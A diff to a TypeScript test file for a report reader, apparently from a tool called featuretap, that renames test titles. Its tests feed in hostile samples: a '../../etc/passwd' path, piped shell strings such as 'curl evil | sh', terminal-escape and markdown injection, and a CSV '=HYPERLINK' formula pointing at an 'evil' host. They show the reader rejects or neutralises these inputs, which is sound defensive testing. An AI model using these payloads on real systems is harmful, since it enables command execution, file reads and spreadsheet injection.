@@ -16,7 +16,7 @@ import { drawReport } from './drawn-report.ts';
 
 type Draft = { -readonly [K in keyof Report]: Report[K] };
 
-describe('a report that was edited', () => {
+describe('an edited report', () => {
   let root = '';
   before(async () => {
     root = await mkdtemp(join(tmpdir(), 'featuretap-hostile-'));
@@ -33,11 +33,11 @@ describe('a report that was edited', () => {
     return readReport(file);
   }
 
-  it('is read where nothing was changed', async () => {
+  it('without changes is read', async () => {
     assert.equal((await read(() => undefined)).accuracy, drawn.report.accuracy);
   });
 
-  it('is read where copies of an image share a row of the set, which has fewer rows than images', async () => {
+  it('is read where copies of an image share a row of the set', async () => {
     await read((report) => Object.assign(report.featureSet, { rowCount: 3 }));
   });
 
@@ -65,7 +65,7 @@ describe('a report that was edited', () => {
     'a sha256 that is a path': [(r) => (r.headSha256 = '../../etc/passwd'), /headSha256/],
   };
   for (const [name, [edit, field]] of Object.entries(changes)) {
-    it(`is refused by name: ${name}`, async () => {
+    it(`is rejected by name: ${name}`, async () => {
       await assert.rejects(read(edit), (error) => {
         assert.ok(error instanceof UserError);
         assert.match(error.message, field);
@@ -75,7 +75,7 @@ describe('a report that was edited', () => {
     });
   }
 
-  it('is refused with predictions of other rows or classes', async () => {
+  it('is rejected with predictions of other rows or classes', async () => {
     const folder = join(root, 'predictions');
     await mkdir(folder);
     const report = { ...drawn.report, report: folder };
@@ -94,7 +94,7 @@ describe('a report that was edited', () => {
     }
   });
 
-  it('cannot make its reader run what it likes', () => {
+  it("cannot run code in the reader's browser", () => {
     for (const command of [
       'curl evil | sh',
       'featuretap classify; curl evil',
@@ -117,7 +117,7 @@ describe('a report that was edited', () => {
     }
   });
 
-  it('cannot steer a terminal, or add a heading to a card, by the names in it', () => {
+  it('cannot control a terminal, or add a heading to a card, with the names in it', () => {
     const classes = drawn.report.classes.map((name, c) => (c === 0 ? 'a\u001b[2J\n# Heading' : name));
     const report = { ...drawn.report, classes, warnings: ['\n# Heading [x](http://evil)'], createdAt: '\n# Heading' };
     const card = modelCard({ name: 'svm\n# Heading', report, predictions: undefined });
@@ -127,8 +127,8 @@ describe('a report that was edited', () => {
   });
 });
 
-describe('a CSV that people open', () => {
-  it('has no formula in it, and is read back as it was', () => {
+describe('a CSV file for spreadsheets', () => {
+  it('contains no formula, and is read back unchanged', () => {
     const id = '=HYPERLINK("http://evil","x")';
     const prediction = { ...(drawReport().predictions[0] as Prediction), id, predictedClass: '-2+3', trueClass: '@x' };
     const text = [...formatPredictions([prediction])].join('');
